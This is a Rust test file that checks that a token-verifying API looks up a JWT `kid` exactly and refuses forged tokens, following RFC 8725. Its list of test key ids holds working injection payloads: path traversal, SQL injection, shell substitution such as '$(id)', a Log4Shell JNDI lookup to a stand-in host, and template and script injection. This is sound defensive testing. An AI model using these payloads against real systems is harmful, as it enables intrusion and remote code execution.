//! RFC 8725, section 3.10: a `kid` is looked up among the keys, letter by letter, and is nothing else.

use serde_json::json;

use super::{
    Api, Forgery, HEADER, NOT_A_BEARER, UNKNOWN_KEY, assert_refused, claims, encode, start,
};
use crate::support::keys::ES256;

/// A good token but for its `kid`, as it is written in the header.
fn with_id(api: &Api, name: &str, reason: &'static str, id: &str) -> Forgery {
    let header = encode(format!(r#"{{"alg":"ES256","kid":{id}}}"#));
    let token = ES256.sign_parts(&header, &encode(claims(api).to_string()));
    Forgery::token(format!("kid {name}"), reason, &token)
}

/// Ids that might be taken for paths, queries, commands, addresses or patterns.
pub(super) fn unknown(api: &Api) -> Vec<Forgery> {
    let ids = [
        "",
        " ",
        "es256",
        " ES256",
        "ES256 ",
        "ES256\0",
        "ES256\n",
        "ES256,EdDSA",
        "ES256/../ES256",
        "./ES256",
        "../../../../dev/null",
        "/dev/null",
        r"..\..\ES256",
        "file:///dev/null",
        "https://evil.example/keys",
        "//evil.example/keys",
        "%45%53256",
        "ES256%00",
        "*",
        "ES*",
        ".*",
        "' OR '1'='1",
        "' UNION SELECT 'evil' --",
        r#"" or ""=""#,
        "`id`",
        "$(id)",
        "| id",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<script>",
        "ＥＳ256",
        "ΕS256",
        "ES256\u{200b}",
        "\u{feff}ES256",
        "__proto__",
        "keys",
        "0",
        "null",
    ];
    let mut forgeries: Vec<_> = ids
        .map(|id| with_id(api, &format!("{id:?}"), UNKNOWN_KEY, &json!(id).to_string()))
        .into_iter()
        .collect();
    let long = |length: usize| json!("evil".repeat(length / 4)).to_string();
    forgeries.push(with_id(api, "of 4 KB", UNKNOWN_KEY, &long(4_000)));
    forgeries.push(with_id(api, "of 10 KB", NOT_A_BEARER, &long(10_000)));
    let slashes = json!("../".repeat(1_300)).to_string();
    forgeries.push(with_id(api, "of 1,300 folders", UNKNOWN_KEY, &slashes));
    for no_text in ["null", "256", "0.5", "true", r#"["ES256"]"#, r#"{"ES256":1}"#, r#""\ud800""#] {
        forgeries.push(with_id(api, no_text, HEADER, no_text));
    }
    let without = ES256.sign(&json!({ "alg": "ES256" }), &claims(api));
    forgeries.push(Forgery::token("no kid", HEADER, &without));
    forgeries
}

#[tokio::test]
async fn an_id_of_a_key_is_that_key_and_nothing_else() {
    let api = start().await;
    assert_refused(&api, &unknown(&api)).await;
}
